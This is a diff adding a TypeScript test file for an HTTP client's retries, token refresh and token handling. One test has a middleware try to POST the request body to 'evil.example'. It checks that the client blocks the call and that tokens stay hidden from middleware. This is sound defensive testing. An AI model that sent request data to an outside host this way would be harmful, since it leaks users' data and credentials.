@@ -1,0 +1,136 @@
+import { afterEach, beforeEach, describe, expect, test, vi } from "vitest";
+import type { PlantStoreClientOptions, RawMiddleware, RawOptions } from "./index.ts";
+import { scripted } from "./testing/scripted.ts";
+import { expectNoUnhandledRejections } from "./testing/unhandled-rejections.ts";
+
+expectNoUnhandledRejections();
+
+const body = { id: 1, name: "Fern" };
+const plant = () => Response.json({ name: "Fern" });
+const status =
+  (status: number, headers: Record<string, string> = {}) =>
+  () =>
+    new Response("", { status, headers });
+
+beforeEach(() => {
+  vi.useFakeTimers();
+  vi.spyOn(Math, "random").mockReturnValue(0.5);
+});
+afterEach(() => {
+  vi.useRealTimers();
+});
+
+/** Counts a middleware's runs, and shows all that it saw. */
+function watching() {
+  const seen: string[] = [];
+  const note = (what: string, ...headers: readonly Headers[]) => {
+    seen.push(what, ...headers.map((fields) => JSON.stringify([...fields])));
+  };
+  const middleware = {
+    onRequest: vi.fn<NonNullable<RawMiddleware["onRequest"]>>(({ request }) => note(request.url, request.headers)),
+    onResponse: vi.fn<NonNullable<RawMiddleware["onResponse"]>>(({ request, response }) =>
+      note(request.url, request.headers, response.headers),
+    ),
+    onError: vi.fn<NonNullable<RawMiddleware["onError"]>>(({ request, error }) => note(String(error), request.headers)),
+  };
+  const runs = () => Object.values(middleware).map(({ mock }) => mock.calls.length);
+  return { middleware, runs, seen };
+}
+
+describe("raw's retries", () => {
+  test.each<[string, () => Response]>([
+    ["a 429", status(429)],
+    ["a 503 that asks for a wait", status(503, { "Retry-After": "7" })],
+  ])("send the request again after %s, while middleware runs once", async (_title, first) => {
+    const { raw, sent, events } = scripted([first, plant]);
+    const { middleware, runs } = watching();
+    raw.use(middleware, { onRequest: ({ request }) => request.headers.set("X-Trace", "7") });
+    const call = raw.POST("/plants", { body });
+    await vi.advanceTimersByTimeAsync(7_000);
+    expect(await call).toMatchObject({ data: { name: "Fern" } });
+    expect(sent).toHaveLength(2);
+    expect(sent[0]).toMatchObject({ headers: { "x-trace": "7", authorization: "Bearer sesame-1" } });
+    expect(sent[1]).toEqual(sent[0]);
+    expect(runs()).toEqual([1, 1, 0]);
+    expect(events).toEqual(["attempt", "response", "retry", "attempt", "response"]);
+  });
+
+  test.each<[string, PlantStoreClientOptions, Partial<RawOptions>, number]>([
+    ["two by default", {}, {}, 3],
+    ["the client's", { maxRetries: 4 }, {}, 5],
+    ["the call's", { maxRetries: 4 }, { maxRetries: 1 }, 2],
+    ["none", {}, { maxRetries: 0 }, 1],
+  ])("are %s", async (_title, options, callOptions, sends) => {
+    const { raw, sent } = scripted([status(429)], options);
+    const call = raw.POST("/plants", { body, ...callOptions });
+    await vi.advanceTimersByTimeAsync(100_000);
+    expect(await call).toMatchObject({ error: "", response: { status: 429 } });
+    expect(sent).toHaveLength(sends);
+  });
+
+  test("send nothing again that may be processed, unless retryUnsafe is set", async () => {
+    for (const [options, sends] of [
+      [{}, 1],
+      [{ retryUnsafe: true }, 3],
+    ] as const) {
+      const { raw, sent } = scripted([status(500)], options);
+      const call = raw.POST("/plants", { body });
+      await vi.advanceTimersByTimeAsync(100_000);
+      expect(await call).toMatchObject({ response: { status: 500 } });
+      expect(sent).toHaveLength(sends);
+    }
+  });
+});
+
+describe("raw's token", () => {
+  test("is asked for anew after a 401, and no middleware sees either", async () => {
+    const token = vi.fn(async ({ forceRefresh }) => (forceRefresh ? "sesame-2" : "sesame-1"));
+    const echo = { "X-Echo": "sesame-1 and sesame-2", "WWW-Authenticate": "Bearer sesame-1" };
+    const { raw, authorizations } = scripted([status(401, echo), plant], { token });
+    const { middleware, runs, seen } = watching();
+    raw.use(middleware);
+    expect(await raw.POST("/plants", { body })).toMatchObject({ data: { name: "Fern" } });
+    expect(authorizations()).toEqual(["Bearer sesame-1", "Bearer sesame-2"]);
+    expect(token.mock.calls.map(([{ forceRefresh }]) => forceRefresh)).toEqual([false, true]);
+    expect(runs()).toEqual([1, 1, 0]);
+    expect(seen.join()).not.toMatch(/sesame|authorization/i);
+    await raw.POST("/plants", { body });
+    expect(authorizations().at(-1)).toBe("Bearer sesame-2");
+  });
+
+  test("is asked for anew once, and then the 401 is the error", async () => {
+    const { raw, sent } = scripted([status(401)], { token: async () => "sesame-1" });
+    expect(await raw.POST("/plants", { body })).toMatchObject({ error: "", response: { status: 401 } });
+    expect(sent).toHaveLength(2);
+    const other = scripted([status(401)]);
+    expect(await other.raw.POST("/plants", { body })).toMatchObject({ response: { status: 401 } });
+    expect(other.sent).toHaveLength(1);
+  });
+
+  test("is the call's, where it has one", async () => {
+    const { raw, authorizations } = scripted([plant]);
+    for (const token of ["other-12", async () => "other-34", null, undefined])
+      await raw.POST("/plants", { body, token });
+    expect(authorizations()).toEqual(["Bearer other-12", "Bearer other-34", undefined, "Bearer sesame-1"]);
+  });
+
+  test("that does not come ends the call in a TokenError, with nothing sent", async () => {
+    const cause = new Error("the vault is closed");
+    const { raw, sent } = scripted([plant], { token: () => Promise.reject(cause) });
+    const { middleware, runs } = watching();
+    raw.use(middleware);
+    await expect(raw.POST("/plants", { body })).rejects.toMatchObject({ code: "token", outcome: "not_sent", cause });
+    expect([sent.length, ...runs()]).toEqual([0, 1, 0, 1]);
+  });
+
+  test("goes to no other address by way of the fetch that a middleware gets", async () => {
+    const { raw, sent } = scripted([plant]);
+    const text = JSON.stringify(body);
+    raw.use({
+      onRequest: ({ options }) =>
+        options.fetch(new Request("https://evil.example/plants", { method: "POST", body: text })),
+    });
+    await expect(raw.POST("/plants", { body })).rejects.toMatchObject({ code: "configuration", outcome: "not_sent" });
+    expect(sent).toEqual([]);
+  });
+});
